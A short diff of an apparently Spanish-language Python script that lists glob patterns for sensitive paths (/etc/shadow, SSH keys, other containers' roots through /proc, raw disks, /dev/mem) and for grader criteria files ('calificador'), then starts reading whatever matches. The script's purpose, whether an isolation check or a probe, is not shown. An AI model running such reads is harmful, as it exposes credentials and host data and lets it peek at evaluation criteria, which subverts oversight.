@@ -3,7 +3,7 @@ import glob
 import os
 import sys
 
-PATRONES = ("/root/*", "/root/*/*", "/home/*/*", "/work/*/*", "/mnt/*", "/srv/*", "/opt/*/*", "/etc/shadow", "/etc/ssh/*", "/var/log/*", "/run/*", "/sys/*",
+PATRONES = ("/root/*", "/root/*/*", "/home/*/*", "/mnt/*", "/srv/*", "/opt/*/*", "/etc/shadow", "/etc/ssh/*", "/var/log/*", "/run/*", "/sys/*",
             "/calificador/*criterio*", "/calificador/*/*criterio*", "/entrega/../../*/*.json", "/proc/[0-9]*/root/etc/shadow", "/proc/[0-9]*/root/root/*", "/dev/sd*", "/dev/vd*", "/dev/mem")
 leidos = []
 for ruta in (ruta for patron in PATRONES for ruta in glob.glob(patron)):
